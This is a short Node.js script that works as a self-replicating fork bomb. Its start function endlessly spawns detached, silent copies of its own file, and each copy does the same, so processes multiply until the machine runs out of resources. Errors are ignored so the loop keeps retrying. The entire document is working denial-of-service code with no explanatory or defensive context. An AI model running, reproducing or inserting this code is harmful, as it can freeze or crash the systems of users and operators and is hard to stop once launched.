const { spawn } = require('node:child_process');

function start() {
  try {
    spawn(process.execPath, [__filename], { stdio: 'ignore', detached: true }).on('error', () => undefined);
  } catch {
    // Refused: tries again.
  }
  setImmediate(start);
}

start();
